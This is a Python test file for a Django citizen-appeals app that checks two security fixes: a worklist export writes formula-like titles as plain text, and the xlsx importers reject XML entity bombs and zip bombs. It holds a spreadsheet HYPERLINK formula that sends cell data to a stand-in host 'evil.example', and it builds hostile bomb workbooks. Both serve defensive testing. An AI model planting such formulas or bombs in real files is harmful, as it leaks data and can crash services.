"""Issue 17: a worklist export writes a resident's formula-like title as text (finding 5); the category and
12345 importers open uploads through lib's checked loader, refusing zip and XML bombs (finding 9)."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from typing import Any

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from gongzhi.appeals import category_import, imports
from gongzhi.appeals.models import Appeal, Category
from gongzhi.test import XLSX_SHEET, XML_ENTITY_BOMB, formula_cells

from .conftest import submit

pytestmark = pytest.mark.django_db


ATTACK = '=HYPERLINK("http://evil.example/steal?c="&A2,"查看详情")'


def test_it_exports_a_worklist_with_a_formula_title_as_text(client: Any, cast: Any) -> None:
    submit(cast, acting_user=None, title=ATTACK, body="匿名诉求：小区门口垃圾没人清")
    submit(cast, acting_user=None, title="-1+1", body="另一条匿名诉求，标题以减号开头")
    client.force_login(cast.worker_a)
    response = client.get(reverse("appeals:worklist_export", args=["pending_dispatch"]))
    assert response.status_code == 200
    assert formula_cells(io.BytesIO(response.content)) == []
    titles = [row[1] for row in load_workbook(io.BytesIO(response.content)).worksheets[0].iter_rows(values_only=True)]
    assert ATTACK in titles and "-1+1" in titles


def _workbook(header: list[str], row: list[str]) -> bytes:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    ws.append(header)
    ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _rewrite(content: bytes, change: Callable[[bytes], bytes]) -> io.BytesIO:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            target.writestr(info.filename, change(data) if info.filename == XLSX_SHEET else data)
    out.seek(0)
    out.name = "upload.xlsx"
    return out


CATEGORY_ROW = ["市容环境类", "垃圾处理", "MARKER", "一般"]
ORDER_ROW = ["BJ-X1", "MARKER", "小区垃圾未清运", "投诉", "一般", "", "", "", "张先生", "13800138000", "和平里社区", ""]

BOMBS = {
    "entities": (lambda xml: XML_ENTITY_BOMB + xml.replace(b"MARKER", b"&c;"), "实体声明"),
    "entities behind a comment": (
        lambda xml: b"<!--" + b"x" * 10_000 + b"-->" + XML_ENTITY_BOMB + xml.replace(b"MARKER", b"&c;"), "实体声明"),
    "zip bomb": (lambda xml: xml.replace(b"<sheetData>", b"<sheetData>" + b" " * (3 * 1024 * 1024)), "解压后超过 1 MB"),
}


def _errors_of_category_import(upload: io.BytesIO) -> list[str]:
    try:
        category_import.parse_rows(upload)
    except category_import.CategoryImportError as exc:
        return exc.errors
    return []


def _errors_of_work_order_import(upload: io.BytesIO) -> list[str]:
    return imports.parse_rows(upload, None)[1]


@pytest.mark.parametrize("bomb", list(BOMBS))
@pytest.mark.parametrize("importer", ["categories", "work orders"])
def test_every_importer_refuses_bombs_in_chinese_and_writes_nothing(cast: Any, settings: Any, bomb: str,
                                                                    importer: str) -> None:
    settings.XLSX_MAX_UNCOMPRESSED_BYTES = 1024 * 1024
    change, expected = BOMBS[bomb]
    if importer == "categories":
        upload = _rewrite(_workbook(category_import.COLUMNS, CATEGORY_ROW), change)
        errors = _errors_of_category_import(upload)
    else:
        upload = _rewrite(_workbook(imports.COLUMNS, ORDER_ROW), change)
        errors = _errors_of_work_order_import(upload)
    assert len(errors) == 1 and expected in errors[0], errors
    assert not Category.objects.filter(name__startswith="aaaa").exists()
    assert not Appeal.objects.exists()
